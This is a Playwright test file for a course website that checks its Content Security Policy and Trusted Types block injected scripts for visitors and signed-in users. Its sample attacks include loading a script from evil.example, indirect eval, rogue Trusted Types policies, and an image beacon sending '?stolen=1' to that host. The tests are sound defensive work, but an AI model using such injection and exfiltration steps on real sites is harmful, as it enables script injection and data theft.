import type { Page } from '@playwright/test'
import { expect, test } from '../support/siteFixture.ts'
import { mark, isMarked, open } from './open.ts'

/** Actions of an injected script; each returns whether it succeeded. */
const attempts = {
  'markup as text': () => {
    document.body.innerHTML = '<p>x</p>'
    return true
  },
  // In a separate task, because browsers exempt scripts that a test evaluates directly.
  'text as code': () =>
    new Promise<boolean>((resolve) => {
      setTimeout(() => {
        try {
          // oxlint-disable-next-line no-eval -- The policy must block it.
          resolve((0, eval)('true') as boolean)
        } catch {
          resolve(false)
        }
      })
    }),
  'a script from another origin': () => {
    document.createElement('script').src = 'https://evil.example/x.js'
    return true
  },
  'a new Trusted Types policy': () => {
    const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
    return Boolean(trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }))
  },
  'the existing Trusted Types policy again': () => {
    const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
    return Boolean(trustedTypes.createPolicy('zeyiji-rich', {})) && Boolean(trustedTypes.createPolicy('zeyiji-rich', {}))
  },
  'a script as markup': () => {
    document.body.append(document.createRange().createContextualFragment('<script>window.broken = true</script>'))
    return true
  },
}

const succeeds = (page: Page, attempt: () => boolean | Promise<boolean>): Promise<boolean> => page.evaluate(attempt).catch(() => false)

for (const who of ['a visitor', 'somebody signed in'] as const) {
  test(`the policy blocks an injected script on a page of ${who}`, async ({ page, signIn, faults }) => {
    if (who === 'somebody signed in') await signIn()
    faults.expect(/Trusted|Content.Security.Policy/i)
    faults.expect(/request failed: GET https:\/\/evil\.example\/picture\.png\S* csp/)
    await open(page, '/course/first-aid-cpr-aed')
    for (const [what, attempt] of Object.entries(attempts)) expect(await succeeds(page, attempt), what).toBe(false)
    const shown = page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image()
          picture.addEventListener('load', () => resolve('loaded'))
          picture.addEventListener('error', () => resolve('refused'))
          picture.src = 'https://evil.example/picture.png?stolen=1'
        }),
    )
    expect(await shown).toBe('refused')
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })
}

test('texts that contain markup are shown as text on every path, and the policy reports no violation', async ({ page }) => {
  await open(page, '/profession/welder')
  await mark(page)
  await expect(page.getByRole('region', { name: '职业介绍' }).locator('p').first()).toBeVisible()
  await page.getByRole('banner').getByRole('link', { name: '课程' }).click()
  await expect(page.getByRole('heading', { level: 1, name: '全部课程' })).toBeVisible()
  await page.getByRole('main').getByRole('listitem').getByRole('heading', { level: 2 }).first().click()
  await expect(page).toHaveURL(/\/course\/[\w-]+$/)
  await expect(page.getByRole('region', { name: '课程介绍' }).locator('p').first()).toBeVisible()
  await page.getByRole('contentinfo').getByRole('link', { name: '隐私政策' }).click()
  await expect(page.getByRole('main').getByRole('heading', { level: 2 }).first()).toBeVisible()
  expect(await isMarked(page), 'all of it in one document').toBe(true)
})
